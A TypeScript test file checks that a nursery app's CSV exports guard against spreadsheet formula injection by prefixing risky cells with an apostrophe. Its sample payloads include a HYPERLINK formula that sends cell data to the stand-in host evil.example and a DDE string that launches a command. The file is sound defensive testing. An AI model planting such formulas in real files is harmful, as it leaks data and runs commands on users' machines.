import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freshDatabase } from "../support/db";
import { memberRequest, signedInMember, type TestMember } from "../support/auth";
import { addBag, addCheck, addCount, addLot, addReading, addSowing, addStore } from "../support/season-rows";
import { GET as exportRoute } from "@/app/api/export/route";
import { exportKinds } from "@/lib/server/exports";
import { escapeCsvCell } from "@/lib/domain/csv";

// Issue 11, item 4: a cell a spreadsheet would read as a formula (starting with = + - @, tab or carriage
// return, whatever follows, line breaks included) is written with a leading apostrophe, per OWASP's
// "CSV Injection" guidance (owasp.org/www-community/attacks/CSV_Injection). Numbers stay numbers.

const payloads = [
  '=HYPERLINK("http://evil.example/?leak="&A1,\n"Open the bag list")',
  "+1+cmd|' /C calc'!A0\nsecond line",
  "-2+3\r\n=1+1",
  "@SUM(1,1)\nnote",
  "\t=1+1\nafter a tab",
  "\r=1+1",
  "=1\n+2\n-3\n@4",
];
const risky = /^[=+\-@\t\r]/;

describe("escapeCsvCell", () => {
  it.each(payloads)("escapes %j, line breaks and all", (p) => {
    expect(escapeCsvCell(p)).toBe(`'${p}`);
  });
  it.each([
    ["Echinacea purpurea", "Echinacea purpurea"],
    ["a note\n=not at the start", "a note\n=not at the start"],
    ["", ""],
    [-1.25, -1.25],
    [3, 3],
    [null, null],
  ] as const)("leaves %j as it is", (value, expected) => {
    expect(escapeCsvCell(value)).toBe(expected);
  });
});

describe("every export, every text column", () => {
  let ctx: Awaited<ReturnType<typeof freshDatabase>>;
  let owner: TestMember;
  beforeAll(async () => {
    ctx = await freshDatabase();
    owner = await signedInMember(ctx.db, { role: "owner", farmName: "Bramblewick Native Nursery" });
    const f = owner.farmId;
    let n = 0;
    const next = () => payloads[n++ % payloads.length];
    const store = await addStore(ctx.db, f, { name: next() });
    const reading = await addReading(ctx.db, f, store, "2026-11-20T06:00:00.000Z", -1.25);
    await ctx.db("readings").where({ id: reading }).update({ origin: next() });
    const lot = await addLot(ctx.db, f, { species: next(), source: next() });
    await ctx.db("lots").where({ id: lot }).update({ common_name: next() });
    const bag = await addBag(ctx.db, f, { code: "BW7K2Q", lotId: lot, storeId: store, start: "2026-10-01", pulledOn: "2026-10-30", sownOn: "2026-10-31" });
    await ctx.db("bags").where({ id: bag }).update({ box: next(), note: next(), discard_reason: next() });
    await addCheck(ctx.db, f, bag, "2026-10-08T08:15:00.000Z", { note: next() });
    await ctx.db("checks").where({ bag_id: bag }).update({ checked_by: owner.userId });
    await ctx.db("users").where({ id: owner.userId }).update({ name: next() });
    const sowing = await addSowing(ctx.db, f, bag, "2026-10-31", 50);
    await ctx.db("sowings").where({ id: sowing }).update({ tray: next(), note: next() });
    const count = await addCount(ctx.db, f, sowing, "2026-11-07", 12);
    await ctx.db("counts").where({ id: count }).update({ note: next() });
  });
  afterAll(async () => ctx.cleanup());

  it.each(exportKinds)("%s: no cell starts like a formula, and each payload comes back whole behind an apostrophe", async (what) => {
    const res = await exportRoute(memberRequest(`/api/export?what=${what}`, owner), {} as never);
    expect(res.status).toBe(200);
    const text = (await res.text()).replace(/^\uFEFF/, "");
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows.length).toBeGreaterThan(1);
    const cells = rows.flat();
    // A number (the readings' -1.25 °C) is written as a number; anything else must not start like a formula.
    for (const cell of cells.filter((c) => !/^-?\d+(\.\d+)?$/.test(c))) expect(cell, JSON.stringify(cell)).not.toMatch(risky);
    const escaped = cells.filter((c) => c.startsWith("'")).map((c) => c.slice(1));
    expect(escaped.length).toBeGreaterThan(0);
    for (const e of escaped) expect(payloads).toContain(e);
  });
});
